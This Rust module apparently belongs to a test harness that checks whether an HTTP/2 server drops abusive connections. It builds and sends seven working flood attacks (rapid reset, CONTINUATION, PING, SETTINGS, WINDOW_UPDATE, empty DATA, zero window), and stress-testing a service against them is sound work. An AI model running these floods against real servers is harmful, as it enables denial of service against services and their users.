//! Floods of HTTP/2 frames, made by hand: each costs its sender little and a careless server much.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::target::{ByteStream, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Header block of `GET /large` with `:authority: localhost`, in HPACK without Huffman codes: indexed `:method`
/// and `:scheme`, literal `:path` and `:authority`.
const GET_LARGE: &[u8] = b"\x82\x86\x04\x06/large\x01\x09localhost";

/// Header block of `POST /echo`.
const POST_ECHO: &[u8] = b"\x83\x86\x04\x05/echo\x01\x09localhost";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Number of parts that are sent between two pauses.
const BATCH: u32 = 50;

/// Pause of an attacker that shares its two cores with the service.
const PAUSE: Duration = Duration::from_millis(2);

/// Time after the phase within which the service must have cut off what it does not tolerate.
const CUT_TIMEOUT: Duration = Duration::from_secs(15);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is small").to_be_bytes();
    let mut frame = Vec::from(&length[1..]);
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A flood: its name, what opens it, and the part that is repeated, made for the n-th time.
struct Flood {
    name: &'static str,
    start: fn() -> Vec<u8>,
    part: fn(u32) -> Vec<u8>,
    /// Set if the service must end the connection.
    must_end: bool,
}

const FLOODS: [Flood; 7] = [
    Flood {
        name: "rapid reset",
        start: Vec::new,
        part: |n| {
            let stream = 2 * n + 1;
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_LARGE);
            [open, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        },
        must_end: true,
    },
    Flood {
        name: "CONTINUATION",
        start: || frame(HEADERS, END_STREAM, 1, GET_LARGE),
        part: |_| frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
        must_end: true,
    },
    Flood {
        name: "SETTINGS",
        start: Vec::new,
        part: |_| frame(SETTINGS, 0, 0, b""),
        must_end: false,
    },
    Flood {
        name: "PING",
        start: Vec::new,
        part: |_| frame(PING, 0, 0, b"12345678"),
        must_end: false,
    },
    Flood {
        name: "empty DATA",
        start: || frame(HEADERS, END_HEADERS, 1, POST_ECHO),
        part: |_| frame(DATA, 0, 1, b""),
        must_end: true,
    },
    Flood {
        name: "WINDOW_UPDATE",
        start: || frame(HEADERS, END_HEADERS, 1, POST_ECHO),
        part: |_| frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
        must_end: false,
    },
    Flood {
        name: "zero window",
        // SETTINGS_INITIAL_WINDOW_SIZE = 0, and requests whose responses can never be sent.
        start: || frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00"),
        part: |n| match n {
            0..50 => frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, GET_LARGE),
            _ => Vec::new(),
        },
        must_end: true,
    },
];

/// Attacks until then with all floods at once. Returns how many frames were sent and connections ended.
pub async fn attack(target: &Arc<Target>, until: Instant) -> Result<String, String> {
    let tasks: Vec<_> =
        FLOODS.iter().map(|flood| tokio::spawn(repeat(target.clone(), flood, until))).collect();
    let mut said = Vec::new();
    let mut faults = Vec::new();
    for (task, flood) in tasks.into_iter().zip(&FLOODS) {
        let (parts, ended) = task.await.unwrap();
        said.push(format!("{} {parts}/{ended}", flood.name));
        if flood.must_end && ended == 0 {
            faults.push(format!("{} was tolerated", flood.name));
        }
    }
    let said = said.join(", ");
    if faults.is_empty() { Ok(said) } else { Err(format!("{said}; {}", faults.join(", "))) }
}

/// Floods one connection after the other. Returns the number of parts, and of connections that the
/// service ended.
async fn repeat(target: Arc<Target>, flood: &'static Flood, until: Instant) -> (u32, u32) {
    let (mut parts, mut ended) = (0, 0);
    while Instant::now() < until
        || (flood.must_end && ended == 0 && Instant::now() < until + CUT_TIMEOUT)
    {
        let Ok(stream) = target.connect(b"h2").await else { continue };
        let (sent, has_ended) = run(stream, flood, until).await;
        parts += sent;
        ended += u32::from(has_ended);
    }
    (parts, ended)
}

async fn run(stream: Box<dyn ByteStream>, flood: &Flood, until: Instant) -> (u32, bool) {
    let until = if flood.must_end { until + CUT_TIMEOUT } else { until };
    let (mut reader, mut writer) = tokio::io::split(stream);
    // Read, because a server that may not send its acknowledgements ends for another reason.
    let reading = tokio::spawn(async move {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await.is_ok_and(|bytes| bytes > 0) {}
    });
    let mut sent = 0;
    let start = [PREFACE, &frame(SETTINGS, 0, 0, b""), &(flood.start)()].concat();
    let mut alive = writer.write_all(&start).await.is_ok();
    while alive && Instant::now() < until && !reading.is_finished() {
        let part = (flood.part)(sent);
        if part.is_empty() {
            tokio::time::sleep(Duration::from_millis(50)).await;
        } else {
            alive = writer.write_all(&part).await.is_ok();
            sent += 1;
        }
        if sent % BATCH == 0 {
            tokio::time::sleep(PAUSE).await;
        }
    }
    let has_ended = !alive || reading.is_finished();
    reading.abort();
    (sent, has_ended)
}
